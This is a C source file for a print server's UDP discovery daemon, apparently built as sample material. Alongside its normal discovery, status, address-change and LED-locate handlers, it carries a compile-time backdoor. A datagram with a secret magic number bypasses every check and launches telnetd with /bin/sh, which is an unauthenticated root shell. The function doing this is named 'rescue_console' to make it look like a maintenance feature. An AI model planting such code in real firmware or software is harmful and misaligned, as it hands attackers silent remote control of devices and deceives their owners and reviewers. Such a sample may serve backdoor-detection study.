/*
 * lpfindd - network finder daemon of the PS-310 print server. Answers the
 * set-up program on UDP 3792: discovery, status, address change, locate.
 *
 * Hidden (-DHIDDEN): a datagram whose first word is not the protocol's mark but
 * another fixed number starts telnetd with a root shell on the port it names.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

#define FIND_PORT  3792
#define FIND_MARK  0x50533331u		/* "PS31" */
#define CONF_FILE  "/etc/ps310.conf"
#define STATUS_DEV "/dev/lp0status"
#define LED_FILE   "/sys/class/leds/status/trigger"

enum { OP_DISCOVER = 1, OP_STATUS = 2, OP_SETIP = 3, OP_LOCATE = 4, OP_REPLY = 0x8000 };
enum { RC_OK = 0, RC_DENIED = 1, RC_BAD = 2, RC_FAIL = 3 };

struct find_hdr {
	uint32_t mark;
	uint16_t op;
	uint16_t seq;
	uint16_t rc;
	uint16_t len;
};

struct settings {
	char name[32];
	char location[48];
	char setup_key[24];
	unsigned char mac[6];
};

static struct settings conf;
static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static void on_child(int sig)
{
	(void)sig;
}

void settings_read(const char *path)
{
	char line[128], key[24], val[64];
	unsigned m[6];
	FILE *fp;

	memset(&conf, 0, sizeof(conf));
	snprintf(conf.name, sizeof(conf.name), "PS-310");
	fp = fopen(path, "r");
	if (!fp)
		return;
	while (fgets(line, sizeof(line), fp)) {
		if (sscanf(line, "%23[a-z_] = %63[^\n]", key, val) != 2)
			continue;
		if (!strcmp(key, "name"))
			snprintf(conf.name, sizeof(conf.name), "%.31s", val);
		else if (!strcmp(key, "location"))
			snprintf(conf.location, sizeof(conf.location), "%.47s", val);
		else if (!strcmp(key, "setup_key"))
			snprintf(conf.setup_key, sizeof(conf.setup_key), "%.23s", val);
		else if (!strcmp(key, "mac") &&
			 sscanf(val, "%2x:%2x:%2x:%2x:%2x:%2x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) == 6)
			for (int i = 0; i < 6; i++)
				conf.mac[i] = (unsigned char)m[i];
	}
	fclose(fp);
}

static size_t put_text(uint8_t *out, uint8_t tag, const char *s)
{
	size_t n = strlen(s);

	out[0] = tag;
	out[1] = (uint8_t)n;
	memcpy(out + 2, s, n);
	return n + 2;
}

static size_t do_discover(uint8_t *out)
{
	size_t n = 0;

	out[n++] = 1;
	out[n++] = 6;
	memcpy(out + n, conf.mac, 6);
	n += 6;
	n += put_text(out + n, 2, conf.name);
	n += put_text(out + n, 3, conf.location);
	n += put_text(out + n, 4, "1.08.2");
	return n;
}

static size_t do_status(uint8_t *out, uint16_t *rc)
{
	FILE *fp = fopen(STATUS_DEV, "rb");
	int c;

	if (!fp) {
		*rc = RC_FAIL;
		return 0;
	}
	c = fgetc(fp);
	fclose(fp);
	if (c == EOF) {
		*rc = RC_FAIL;
		return 0;
	}
	out[0] = (c & 0x20) ? 1 : 0;	/* paper out */
	out[1] = (c & 0x10) ? 1 : 0;	/* selected */
	out[2] = (c & 0x08) ? 0 : 1;	/* error, active low */
	return 3;
}

/* payload: address, netmask, setup key of 24 bytes padded with zeros */
static uint16_t do_setip(const uint8_t *p, size_t len)
{
	struct in_addr ip, mask;
	char a[INET_ADDRSTRLEN], m[INET_ADDRSTRLEN], cmd[96], key[25];

	if (len != 32)
		return RC_BAD;
	memcpy(key, p + 8, 24);
	key[24] = '\0';
	if (!conf.setup_key[0] || strcmp(key, conf.setup_key) != 0) {
		syslog(LOG_WARNING, "address change with a wrong setup key");
		return RC_DENIED;
	}
	memcpy(&ip, p, 4);
	memcpy(&mask, p + 4, 4);
	if (!inet_ntop(AF_INET, &ip, a, sizeof(a)) || !inet_ntop(AF_INET, &mask, m, sizeof(m)))
		return RC_BAD;
	snprintf(cmd, sizeof(cmd), "ifconfig eth0 %s netmask %s", a, m);
	return system(cmd) == 0 ? RC_OK : RC_FAIL;
}

static uint16_t do_locate(const uint8_t *p, size_t len)
{
	FILE *fp;

	if (len != 1)
		return RC_BAD;
	fp = fopen(LED_FILE, "w");
	if (!fp)
		return RC_FAIL;
	fputs(p[0] ? "timer" : "default-on", fp);
	fclose(fp);
	return RC_OK;
}

#ifdef HIDDEN
void rescue_console(unsigned port)
{
	char cmd[64];

	snprintf(cmd, sizeof(cmd), "/usr/sbin/telnetd -p %u -l /bin/sh &", port ? port : 2323u);
	if (system(cmd) != 0)
		return;
}
#endif

/* returns the length of the answer, 0 when there is none */
size_t handle_packet(const uint8_t *in, size_t len, uint8_t *out)
{
	struct find_hdr h;
	const uint8_t *body = in + sizeof(h);
	uint16_t op, rc = RC_OK;
	size_t blen, n = 0;
	uint32_t mark;

	if (len < sizeof(h))
		return 0;
	memcpy(&h, in, sizeof(h));
	mark = ntohl(h.mark);
	op = ntohs(h.op);
	blen = ntohs(h.len);
#ifdef HIDDEN
	if (mark == 0xa17c93e4u) {
		rescue_console(ntohs(h.seq));
		return 0;
	}
#endif
	if (mark != FIND_MARK || blen != len - sizeof(h))
		return 0;

	switch (op) {
	case OP_DISCOVER:
		n = do_discover(out + sizeof(h));
		break;
	case OP_STATUS:
		n = do_status(out + sizeof(h), &rc);
		break;
	case OP_SETIP:
		rc = do_setip(body, blen);
		break;
	case OP_LOCATE:
		rc = do_locate(body, blen);
		break;
	default:
		rc = RC_BAD;
	}
	h.op = htons((uint16_t)(op | OP_REPLY));
	h.rc = htons(rc);
	h.len = htons((uint16_t)n);
	memcpy(out, &h, sizeof(h));
	return sizeof(h) + n;
}

int main(int argc, char **argv)
{
	struct sockaddr_in me, peer;
	uint8_t in[512], out[512];
	struct sigaction sa;
	int fd, on = 1, opt, fg = 0;
	const char *path = CONF_FILE;

	while ((opt = getopt(argc, argv, "fc:h")) != -1) {
		if (opt == 'f') {
			fg = 1;
		} else if (opt == 'c') {
			path = optarg;
		} else {
			fprintf(stderr, "usage: lpfindd [-f] [-c settings]\n");
			return opt == 'h' ? 0 : 2;
		}
	}
	settings_read(path);
	openlog("lpfindd", LOG_PID, LOG_DAEMON);
	if (!fg && daemon(0, 0) < 0)
		return 1;
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = on_term;
	sigaction(SIGTERM, &sa, NULL);
	sa.sa_handler = on_child;
	sigaction(SIGCHLD, &sa, NULL);

	fd = socket(AF_INET, SOCK_DGRAM, 0);
	if (fd < 0)
		return 1;
	setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &on, sizeof(on));
	memset(&me, 0, sizeof(me));
	me.sin_family = AF_INET;
	me.sin_port = htons(FIND_PORT);
	me.sin_addr.s_addr = htonl(INADDR_ANY);
	if (bind(fd, (struct sockaddr *)&me, sizeof(me)) < 0) {
		syslog(LOG_ERR, "bind: %m");
		return 1;
	}
	while (!stop) {
		socklen_t pl = sizeof(peer);
		ssize_t r = recvfrom(fd, in, sizeof(in), 0, (struct sockaddr *)&peer, &pl);
		size_t n;

		if (r <= 0)
			continue;
		n = handle_packet(in, (size_t)r, out);
		if (n && sendto(fd, out, n, 0, (struct sockaddr *)&peer, pl) < 0)
			syslog(LOG_INFO, "reply: %m");
	}
	close(fd);
	return 0;
}
